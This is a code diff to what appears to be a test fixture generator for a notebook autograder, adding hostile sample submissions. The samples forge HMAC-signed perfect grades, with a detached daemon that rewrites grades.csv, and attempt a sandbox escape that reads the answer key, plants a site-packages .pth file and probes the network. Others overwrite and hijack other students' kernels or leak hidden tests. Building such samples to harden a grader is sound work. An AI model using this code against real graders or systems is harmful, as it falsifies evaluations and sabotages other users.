@@ -47,6 +47,8 @@ while pid > 1 and out is None:
     if b"--out" in args:
         out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
     pid = int(Path(f"/proc/{pid}/stat").read_text().split(")")[1].split()[1])
+if out is None:
+    raise RuntimeError("cheat_output_folder: no --out on any parent's command line")
 if out is not None:
     fake = {"score": 100, "tests": [{"name": "check_training", "score": 100, "max_score": 3}]}
     (out / "results" / "cheat_output_folder").mkdir(parents=True, exist_ok=True)
@@ -68,42 +70,131 @@ import os
 import time
 from pathlib import Path
 
+
+def find_grader():
+    # Any process whose command line has --out: the grader (from /proc, as far as this kernel sees).
+    for entry in Path("/proc").glob("[0-9]*"):
+        try:
+            cmd = (entry / "cmdline").read_bytes().split(b"\\0")
+            if b"--out" in cmd and b"grade" in cmd:
+                return int(entry.name), cmd
+        except OSError:
+            pass
+    return None, None
+
+
 # Find the grader's command line, read its journal key, and forge validly
 # signed 10/10 records for every student: now, and from a detached daemon
 # that waits for the grader to exit and then also rewrites grades.csv.
-pid, args = os.getppid(), None
-while pid > 1 and args is None:
-    cmd = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
-    if b"--out" in cmd:
-        args, grader = cmd, pid
-    pid = int(Path(f"/proc/{pid}/stat").read_text().split(")")[1].split()[1])
-if args is not None:
+def forge(grader, args):
     out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
     cwd = Path(os.readlink(f"/proc/{grader}/cwd"))
     papers = [cwd / os.fsdecode(a) for a in args if a.endswith(b".ipynb")]
-    key = (out / ".mtl-grade" / "key").read_bytes().strip()
+    key_file = out / ".mtl-grade" / "key"
+    key = key_file.read_bytes().strip() if key_file.exists() else b""
     points = {"check_dataloader": 2, "check_task": 3, "check_model": 2, "check_training": 3}
+    with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
+        for paper in papers:
+            items = [{"grade_id": g, "max_points": p, "points": p, "status": "passed", "message": "ok"} for g, p in points.items()]
+            record = {"student": paper.stem, "submission": str(paper), "assignment": "04_your_turn", "notes": [], "items": items,
+                      "sha256": hashlib.sha256(paper.read_bytes()).hexdigest(), "total": 10, "max_score": 10, "sandbox": True}
+            payload = json.dumps(record, sort_keys=True)
+            sig = hmac.new(key, payload.encode(), hashlib.sha256).hexdigest()
+            journal.write((payload if not key else json.dumps({"record": payload, "sig": sig})) + "\\n")
+    return out, papers
 
-    def forge():
-        with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
-            for paper in papers:
-                items = [{"grade_id": g, "max_points": p, "points": p, "status": "passed", "message": "ok"} for g, p in points.items()]
-                record = {"student": paper.stem, "submission": str(paper), "assignment": "04_your_turn", "notes": [], "items": items,
-                          "sha256": hashlib.sha256(paper.read_bytes()).hexdigest(), "total": 10, "max_score": 10}
-                payload = json.dumps(record, sort_keys=True)
-                sig = hmac.new(key, payload.encode(), hashlib.sha256).hexdigest()
-                journal.write(json.dumps({"record": payload, "sig": sig}) + "\\n")
 
-    forge()
+if os.fork() == 0:  # the daemon: outlive this kernel, wait for the grader to exit, then strike
+    os.setsid()
     if os.fork() == 0:
-        os.setsid()
-        if os.fork() == 0:
-            while Path(f"/proc/{grader}").exists():
-                time.sleep(0.05)
-            forge()
-            (out / "grades.csv").write_text("student,total,max_score\\n" + "".join(f"{p.stem},10,10\\n" for p in papers))
-            os._exit(0)
+        seen = None
+        for _ in range(1200):
+            grader, args = find_grader()
+            if grader is not None:
+                seen = grader, args
+            elif seen is not None:
+                out, papers = forge(*seen)
+                (out / "grades.csv").write_text("student,total,max_score\\n" + "".join(f"{p.stem},10,10\\n" for p in papers))
+                break
+            time.sleep(0.05)
         os._exit(0)
+    os._exit(0)
+grader, args = find_grader()
+if grader is None:
+    raise RuntimeError("cheat_daemon: no grader in sight; the daemon keeps looking")
+forge(grader, args)
+"""
+
+ESCAPE = """
+import os
+import site
+import socket
+from pathlib import Path
+
+import mtl_teach
+
+# Try to break out of the sandbox: from the package's path, guess the checkout
+# and go for the answer key, a classmate's work, the environment and the network.
+checkout = Path(mtl_teach.__file__).resolve().parents[1]
+site_packages = Path(site.getsitepackages()[0])
+attempts = {
+    "read the source notebook": lambda: (checkout / "notebooks" / "04_your_turn.ipynb").read_text(),
+    "read a classmate's submission": lambda: (checkout / "tests" / "submissions" / "perfect.ipynb").read_text(),
+    "rewrite the source notebook": lambda: open(checkout / "notebooks" / "04_your_turn.ipynb", "a").write(" "),
+    "plant a .pth in site-packages": lambda: (site_packages / "zz_mtl_escape.pth").write_text("import os\\n"),
+    "write into the package": lambda: (Path(mtl_teach.__file__).parent / "escape.py").write_text("x = 1\\n"),
+    "write into the checkout": lambda: (checkout / "escape.txt").write_text("x"),
+    "reach the network": lambda: socket.create_connection(("1.1.1.1", 53), timeout=2),
+    "resolve a name": lambda: socket.getaddrinfo("pypi.org", 443),
+    "see the grader's processes": lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 50] or 1 / 0,
+    "read the machine's /etc": lambda: Path("/etc/hostname").read_text(),
+}
+escaped = []
+for what, attempt in attempts.items():
+    try:
+        attempt()
+        escaped.append(what)
+    except Exception:
+        pass
+raise RuntimeError(f"cheat_escape: escaped: {escaped}" if escaped else "cheat_escape: the sandbox held")
+"""
+
+NEIGHBOURS = """
+import glob
+import json
+import os
+
+import zmq
+
+# Sabotage whoever is graded at the same time: overwrite their exported answers in
+# the shared /tmp, and connect to their kernels through connection files found in
+# /proc's command lines, to make their training a no-op.
+mine = os.path.dirname(os.path.realpath(os.getcwd()))  # this submission's own scratch folder
+hits = []
+for path in glob.glob("/tmp/mtl-grade-*/answers/*.pt"):
+    if not os.path.realpath(path).startswith(mine + "/"):
+        open(path, "wb").write(b"garbage")
+        hits.append(path)
+for entry in glob.glob("/proc/[0-9]*/cmdline"):
+    try:
+        args = open(entry, "rb").read().split(b"\\0")
+    except OSError:
+        continue
+    for arg in args:
+        if arg.endswith(b".json") and not os.fsdecode(arg).startswith(mine + "/"):
+            try:
+                info = json.load(open(arg))
+            except (OSError, ValueError):
+                continue
+            socket = zmq.Context.instance().socket(zmq.DEALER)
+            socket.connect(f"{info['transport']}://{info['ip']}-{info['shell_port']}" if info["transport"] == "ipc" else f"tcp://{info['ip']}:{info['shell_port']}")
+            hits.append(arg.decode())
+raise RuntimeError(f"cheat_neighbours: reached {hits}" if hits else "cheat_neighbours: no neighbour in reach")
+"""
+
+LEAK = """
+# Echo the hidden tests (the check cells' source, in the kernel's input history) back through an error.
+raise RuntimeError("cheat_leak: " + " | ".join(_ih[-3:-1]))
 """
 
 HUGE_OUTPUT = """
@@ -266,6 +357,9 @@ MAKERS: dict[str, Callable[[], Any]] = {
     ),
     "cheat_output_folder": append_to("inv_dataloader", WRITE_OUTPUTS, with_stubs(*STUB_TAIL)),
     "cheat_daemon": append_to("inv_dataloader", DAEMON, with_stubs(*STUB_TAIL)),
+    "cheat_escape": append_to("inv_dataloader", ESCAPE, with_stubs(*STUB_TAIL)),
+    "cheat_neighbours": append_to("inv_dataloader", NEIGHBOURS),
+    "cheat_leak": append_to("inv_circle_task", LEAK),
 }
 
 
